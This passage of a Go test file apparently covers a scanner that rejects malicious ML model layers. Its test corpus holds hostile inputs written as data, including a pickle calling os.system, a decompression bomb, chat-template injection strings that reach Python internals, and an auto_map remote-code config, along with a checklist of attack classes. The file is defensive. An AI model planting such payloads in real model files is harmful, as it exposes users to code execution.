		{name: "tar+gzip/kitops model layer", mediaType: "application/vnd.kitops.modelkit.model.v1.tar+gzip", data: modelcorpus.Gzip(modelcorpus.Tar(modelcorpus.ModelTar(), nil))},
		{name: "tar+gzip/pickle inside", mediaType: "application/vnd.oci.image.layer.v1.tar+gzip", opts: scan,
			data:   modelcorpus.Gzip(modelcorpus.Tar([]modelcorpus.TarEntry{{Name: "dir/model.pkl", Data: modelcorpus.OsSystemPickle()}}, nil)),
			format: "pickle", reason: `tar member "dir/model.pkl": GLOBAL imports posix.system, which is not in the allowlist (content.formats.pickle.allow)`},
		{name: "tar+gzip/data after gzip stream", mediaType: "application/vnd.kitops.modelkit.model.v1.tar+gzip",
			data:   withTrailing(modelcorpus.Gzip(modelcorpus.Tar(modelcorpus.ModelTar(), nil)), []byte("appended")),
			format: "gzip", reason: "data after the end of the gzip stream"},
		{name: "tar+gzip/decompression bomb", mediaType: "application/vnd.kitops.modelkit.dataset.v1.tar+gzip",
			data:   modelcorpus.Gzip(modelcorpus.Tar([]modelcorpus.TarEntry{{Name: "zeros.bin", Data: make([]byte, 80<<20)}}, nil)),
			format: "gzip", reason: "gzip layer expands more than 100x beyond 64 MiB (decompression bomb)"},
		{name: "tar+gzip/gzip of a non-tar", mediaType: "application/vnd.kitops.modelkit.model.v1.tar+gzip", data: modelcorpus.GzipMagicWrap(st),
			format: "tar", reason: "invalid header checksum field (not a tar header)"},

		// ---- media types, code, configs --------------------------------------
		{name: "mediatype/GGUF layer carries safetensors", mediaType: "application/vnd.ollama.image.model", data: st,
			format: "mediatype", reason: "declared application/vnd.ollama.image.model but bytes are safetensors"},
		{name: "mediatype/GGUF layer carries a pickle", mediaType: "application/vnd.docker.ai.gguf.v3", opts: scan, data: modelcorpus.OsSystemPickle(),
			format: "mediatype", reason: "declared application/vnd.docker.ai.gguf.v3 but bytes are a pickle"},
		{name: "mediatype/not allowed", opts: func(o *content.Options) { o.MediaTypes = []string{"modelpack", "ollama"} }, mediaType: "application/x-foo", data: st,
			format: "mediatype", reason: `layer media type "application/x-foo" is not allowed by this rule`, newErr: true},
		{name: "mediatype/exact type allowed", opts: func(o *content.Options) { o.MediaTypes = []string{"modelpack", "application/x-foo"} }, mediaType: "application/x-foo", data: st},
		{name: "code/python file", opts: denyCode, mediaType: "application/vnd.oci.image.layer.v1.tar", title: "scripts/preprocess.py", data: []byte("import os\n"),
			format: "mediatype", reason: `file "scripts/preprocess.py" is code (.py) and is denied (denyCodeLayers)`, newErr: true},
		{name: "code/modelpack code layer", opts: denyCode, mediaType: "application/vnd.cncf.model.code.v1.raw", data: []byte("import os\n"),
			format: "mediatype", reason: `code layer "application/vnd.cncf.model.code.v1.raw" is denied (denyCodeLayers)`, newErr: true},
		{name: "config/auto_map", opts: denyCode, title: "config.json", mediaType: "application/vnd.cncf.model.weight.config.v1.raw",
			data:   []byte(`{"architectures":["X"],"auto_map":{"AutoModel":"modeling_x.XModel"}}`),
			format: "json", reason: "config declares auto_map (Hugging Face remote code: classes imported from the repository's .py files, with trust_remote_code); denied by denyCodeLayers"},
		{name: "config/duplicate key", title: "config.json", data: []byte(`{"a":{"b":1,"b":2}}`),
			format: "json", reason: `duplicate key "b"`},
		{name: "config/chat template injection", title: "tokenizer_config.json",
			data:   []byte(`{"chat_template":"{{ self.__init__.__globals__ }}"}`),
			format: "json", reason: `key "chat_template": attribute "__init__" starts with "_" (reaches Python internals) at line 1, column 8 (template injection; a chat template may only read the values it is given)`},
		{name: "template/ollama template", mediaType: "application/vnd.ollama.image.template", data: []byte(`{{ "".__class__.__mro__[1] }}`),
			format: "template", reason: `template does not parse as a Go text/template at line 1 (unexpected . after term "\"\""); pullgate checks templates by parsing them and refuses one it cannot parse`},
		{name: "archive/gzip in raw weight layer", mediaType: "application/vnd.cncf.model.weight.v1.raw", data: modelcorpus.GzipMagicWrap(st),
			format: "mediatype", reason: "declared application/vnd.cncf.model.weight.v1.raw but bytes are gzip-compressed data (and not a NeMo archive: no model_config.yaml at its root)"},
	}
}

// feed writes data in chunks (sizes from rng, or whole when rng is nil)
// and returns the first error and whether HeaderDone was ever observed
// true before that error.
func feed(in content.Inspector, data []byte, rng *rand.Rand) error {
	for len(data) > 0 {
		n := len(data)
		if rng != nil {
			n = 1 + rng.Intn(min(len(data), 97))
		}
		if _, err := in.Write(data[:n]); err != nil {
			return err
		}
		data = data[n:]
	}
	return in.Close()
}

func checkCase(t *testing.T, c corpusCase, rng *rand.Rand) {
	t.Helper()
	opts := content.Options{}
	if c.opts != nil {
		c.opts(&opts)
	}
	in, err := content.NewInspector(opts, c.mediaType, c.title, int64(len(c.data)))
	if err == nil {
		if c.newErr {
			t.Fatalf("NewInspector accepted; want finding %q", c.reason)
		}
		err = feed(in, c.data, rng)
	} else if !c.newErr {
		t.Fatalf("NewInspector: unexpected %v", err)
	}
	if c.reason == "" {
		if err != nil {
			t.Fatalf("want accept, got %v", err)
		}
		if !in.HeaderDone() {
			t.Fatalf("accepted but HeaderDone is false after Close")
		}
		return
	}
	var f *content.Finding
	if !errors.As(err, &f) {
		t.Fatalf("want finding %s: %q, got %v", c.format, c.reason, err)
	}
	if f.Format != c.format || f.Reason != c.reason {
		t.Fatalf("finding mismatch\n got: %s: %q\nwant: %s: %q", f.Format, f.Reason, c.format, c.reason)
	}
}

func TestCorpus(t *testing.T) {
	cases := corpus(t)
	if len(cases) < 45 {
		t.Fatalf("corpus has %d cases, want >= 45", len(cases))
	}
	names := map[string]bool{}
	for _, c := range cases {
		if names[c.name] {
			t.Fatalf("duplicate case name %q", c.name)
		}
		names[c.name] = true
		t.Run(c.name, func(t *testing.T) {
			t.Run("whole", func(t *testing.T) { checkCase(t, c, nil) })
			for seed := int64(1); seed <= 3; seed++ {
				t.Run(fmt.Sprintf("chunks-%d", seed), func(t *testing.T) { checkCase(t, c, rand.New(rand.NewSource(seed))) })
			}
			t.Run("bytewise", func(t *testing.T) {
				if len(c.data) > 1<<16 {
					t.Skip("large")
				}
				opts := content.Options{}
				if c.opts != nil {
					c.opts(&opts)
				}
				in, err := content.NewInspector(opts, c.mediaType, c.title, int64(len(c.data)))
				if err != nil {
					return // descriptor-level finding, covered above
				}
				for i := range c.data {
					if _, err = in.Write(c.data[i : i+1]); err != nil {
						break
					}
				}
				if err == nil {
					err = in.Close()
				}
				if (err == nil) != (c.reason == "") {
					t.Fatalf("bytewise verdict differs: %v", err)
				}
				if f := new(content.Finding); err != nil && errors.As(err, &f) && f.Reason != c.reason {
					t.Fatalf("bytewise reason %q, want %q", f.Reason, c.reason)
				}
			})
		})
	}
}

func TestCorpusCoversReference(t *testing.T) {
	// Every attack class named in the issue must be present.
	var all []string
	for _, c := range corpus(t) {
		all = append(all, c.name)
	}
	joined := strings.Join(all, "\n")
	for _, want := range []string{"oversized header", "duplicate tensor name", "duplicate nested key", "overlapping offsets",
		"out of bounds offsets", "trailing data", "polyglot", "count overflow", "os.system", "builtins.eval", "subprocess",
		"STACK_GLOBAL via memo", "pkgutil.resolve_name", "payload first", "7z-wrapped", "dot-dot", "duplicate entries", "CRC mismatch",
		"prepended data", "nested zip", "chat template"} {
		if !strings.Contains(joined, want) {
			t.Errorf("corpus lacks a %q case", want)
		}
	}
}
